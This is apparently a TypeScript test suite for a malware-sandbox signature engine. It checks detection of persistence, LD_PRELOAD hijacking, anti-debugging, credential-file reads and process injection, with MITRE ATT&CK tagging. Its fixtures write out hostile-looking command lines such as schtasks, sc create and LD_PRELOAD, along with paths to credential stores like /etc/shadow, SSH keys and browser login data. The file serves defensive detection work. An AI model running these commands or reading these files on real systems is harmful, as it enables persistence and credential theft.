    const s = r.behavior.summary as Report
    s.regkey_written = ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', 'HKEY_CURRENT_USER\\Software\\Classes\\x']
    ;(s.file_created as string[]).push('C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk', '/home/user/.bashrc')
    s.command_line = ['schtasks /Create /SC ONLOGON /TN u /TR c:\\u.exe', 'systemctl --user enable evil.service', 'crontab -l']
    const sig = fired(r, 'persistence_autorun')
    expect(sig?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual([
      'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
      'C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk',
      'schtasks /Create /SC ONLOGON /TN u /TR c:\\u.exe'
    ])
    expect(fired(r, 'persistence_shell_rc')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/home/user/.bashrc'])
    expect(fired(r, 'persistence_systemd')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['systemctl --user enable evil.service'])
    expect(fired(r, 'persistence_cron')).toBeUndefined() // crontab -l only lists
  })

  it('persistence_autorun: each place is its own technique, and only its own', () => {
    const ttpOf = (change: (s: Report) => void): string[] => {
      const r = clean() as Report & { behavior: Report }
      change(r.behavior.summary as Report)
      return Object.keys(fired(r, 'persistence_autorun')?.ttp ?? {}).sort()
    }
    const RUN = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater'
    // The report: a Run key write was also tagged T1053 (Scheduled Task) and T1543 (System Process).
    expect(ttpOf((s) => { s.regkey_written = [RUN] })).toEqual(['T1112', 'T1547.001'])
    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell'] })).toEqual(['T1112', 'T1547.004'])
    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\\ImagePath'] })).toEqual(['T1112', 'T1543.003'])
    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger'] })).toEqual(['T1112', 'T1546.012'])
    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs'] })).toEqual(['T1112', 'T1546.010'])
    expect(ttpOf((s) => { s.command_line = ['schtasks /Create /SC ONLOGON /TN u /TR c:\\u.exe'] })).toEqual(['T1053.005'])
    expect(ttpOf((s) => { s.command_line = ['sc create evil binPath= c:\\e.exe'] })).toEqual(['T1543.003'])
    expect(ttpOf((s) => { (s.file_written as string[]).push('/home/user/.config/autostart/x.desktop') })).toEqual(['T1547.013'])
    expect(ttpOf((s) => { (s.file_written as string[]).push('/etc/rc.local') })).toEqual(['T1037.004'])
  })

  it('persistence_cron: cron files and crontab installing a file or stdin; listing, removing and reading are not', () => {
    const r = clean() as Report & { behavior: Report }
    const s = r.behavior.summary as Report
    s.command_line = ['crontab -l', 'crontab -r', 'crontab -u root -l', 'cat /etc/crontab']
    expect(fired(r, 'persistence_cron')).toBeUndefined()
    s.command_line = ['crontab /tmp/c.txt', '/usr/bin/crontab -', 'crontab -u www-data /tmp/job']
    ;(s.file_written as string[]).push('/etc/cron.d/0hourly-update')
    expect(fired(r, 'persistence_cron')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/etc/cron.d/0hourly-update', 'crontab /tmp/c.txt', '/usr/bin/crontab -', 'crontab -u www-data /tmp/job'])
  })

  it('ld_preload: /etc/ld.so.preload, an execve environment with LD_PRELOAD (a call mark), a command line setting it', () => {
    const r = clean() as Report & { behavior: Report }
    FIRES.ld_preload!(r as never)
    ;((r.behavior.summary as Report).command_line as string[]).push('sh -c "LD_PRELOAD=/dev/shm/x.so /bin/ps"')
    ;((r.behavior.summary as Report).file_written as string[]).push('/etc/ld.so.preload')
    const sig = fired(r, 'ld_preload')!
    expect(sig.marks).toEqual([
      { type: 'ioc', category: 'file', ioc: '/etc/ld.so.preload', description: null },
      { type: 'ioc', category: 'cmdline', ioc: 'sh -c "LD_PRELOAD=/dev/shm/x.so /bin/ps"', description: null },
      { type: 'call', pid: 104, cid: 0, call: expect.objectContaining({ api: 'execve' }) }
    ])
    expect(Object.keys(sig.ttp)).toEqual(['T1574.006'])
  })

  it('antidebug_ptrace marks PTRACE_TRACEME calls only, and reads no calls of a process whose apistats lack ptrace', () => {
    const r = clean() as Report & { behavior: Report }
    FIRES.antidebug_ptrace!(r as never)
    expect(fired(r, 'antidebug_ptrace')?.marks).toEqual([{ type: 'call', pid: 105, cid: 0, call: expect.objectContaining({ arguments: { request: 'PTRACE_TRACEME', pid: 0 } }) }])
    // apistats say pid 105 made no ptrace call: its calls are not read.
    ;(r.behavior.apistats as Report)[105] = { openat: 1 }
    expect(fired(r, 'antidebug_ptrace')).toBeUndefined()
  })

  it('reads_credentials: shadow (T1003.008) and key files; passwd, known_hosts and libraries are not', () => {
    const r = clean() as Report & { behavior: Report }
    ;((r.behavior.summary as Report).file_read as string[]).push('/etc/shadow', '/root/.ssh/id_ed25519', '/home/user/.aws/credentials', 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data')
    const sig = fired(r, 'reads_credentials')!
    expect(sig.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/etc/shadow', '/root/.ssh/id_ed25519', '/home/user/.aws/credentials', 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'])
    // Each kind of file its own technique: password hashes, a private key, a credentials file, a browser's logins.
    expect(Object.keys(sig.ttp).sort()).toEqual(['T1003.008', 'T1552.001', 'T1552.004', 'T1555.003'])
  })

  it('reads_credentials: a key the run made itself and reads back (ssh-keygen) is no one else\'s credentials', () => {
    const r = clean() as Report & { behavior: Report }
    const s = r.behavior.summary as Report
    ;(s.file_created as string[]).push('/tmp/h/.ssh/id_ed25519', '/tmp/h/.ssh/id_ed25519.pub')
    ;(s.file_read as string[]).push('/tmp/h/.ssh/id_ed25519')
    expect(fired(r, 'reads_credentials')).toBeUndefined()
    ;(s.file_read as string[]).push('/root/.ssh/id_rsa')
    expect(fired(r, 'reads_credentials')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/root/.ssh/id_rsa'])
  })

  it('process_injection marks the write and the remote run as calls; writes into itself do not count', () => {
    const r = clean() as Report & { behavior: Report }
    const self = { api: 'NtWriteVirtualMemory', arguments: { process_handle: '0xffffffff' } }
    const run = { api: 'NtCreateThreadEx', arguments: {} }
    ;(r.behavior.processes as Report[])[0]!.calls = [self, run]
    expect(fired(r, 'process_injection')).toBeUndefined()
    const write = { api: 'WriteProcessMemory', arguments: { process_handle: '0x1c4' } }
    const apc = { api: 'QueueUserAPC', arguments: {} }
    ;(r.behavior.processes as Report[])[0]!.calls = [self, write, { api: 'Sleep' }, apc]
    expect(fired(r, 'process_injection')?.marks).toEqual([
      { type: 'call', pid: 100, cid: 1, call: write },
      { type: 'call', pid: 100, cid: 3, call: apc }
    ])
  })

  it('yara_match marks the sample, dropped files and memory dumps', () => {
    const r = clean()
    ;((r.target as Report).file as Report).yara = [{ name: 'A', meta: {} }]
    r.procmemory = [{ file: '/m/1-1.dmp', pid: 1, yara: [{ name: 'B', meta: { severity: 3 } }] }]
    expect(fired(r, 'yara_match')?.marks).toEqual([
      { type: 'generic', rule: 'A', where: 'target', file: 'invoice.sh', meta: {} },
      { type: 'generic', rule: 'B', where: 'procmemory', file: '/m/1-1.dmp', meta: { severity: 3 } }
    ])
  })
})

describe('engine', () => {
  it('keeps the first 50 marks and counts all, sorts by severity ascending (as Cuckoo), scores sum/5 capped at 10', () => {
    const many: SignatureRule = { name: 'many', description: 'd', severity: 1, categories: [], ttp: [], run: (_r, m) => { for (let i = 0; i < 120; i++) m.ioc('n', String(i)) } }
    const danger: SignatureRule = { name: 'danger', description: 'd', severity: 3, categories: [], ttp: [], run: (_r, m) => m.call(4, 7, { api: 'NtWriteVirtualMemory' }) }
    const silent: SignatureRule = { name: 'silent', description: 'd', severity: 3, categories: [], ttp: [], run: () => undefined }
    const res = runSignatures({}, { rules: [many, danger, silent] })
    expect(res.signatures.map((s) => s.name)).toEqual(['many', 'danger'])
    expect(res.signatures[0]!.marks).toHaveLength(MAX_MARKS)
    expect(res.signatures[0]!.markcount).toBe(120)
    expect(res.signatures[1]!.marks[0]).toEqual({ type: 'call', pid: 4, cid: 7, call: { api: 'NtWriteVirtualMemory' } })
    expect(res.score).toBe(0.8)
    expect(scoreOf(Array.from({ length: 40 }, () => ({ severity: 3 as const })))).toBe(10)
  })

  it('a throwing rule is logged and skipped; hostile shapes do not throw', () => {
    const bad: SignatureRule = { name: 'bad', description: 'd', severity: 3, categories: [], ttp: [], run: () => { throw new Error('boom') } }
    const logs: string[] = []
    expect(runSignatures({}, { rules: [bad], log: (m) => logs.push(m) }).signatures).toEqual([])
    expect(logs).toEqual(['signature bad failed: boom'])
    const hostile = { behavior: { processes: 'x', summary: { file_deleted: [1, null, {}] } }, network: { dns: [null, 5, { answers: 'no' }], http: [{ host: 7 }] }, dropped: {}, target: null, strings: [3] }
    expect(() => runSignatures(hostile)).not.toThrow()
  })
})
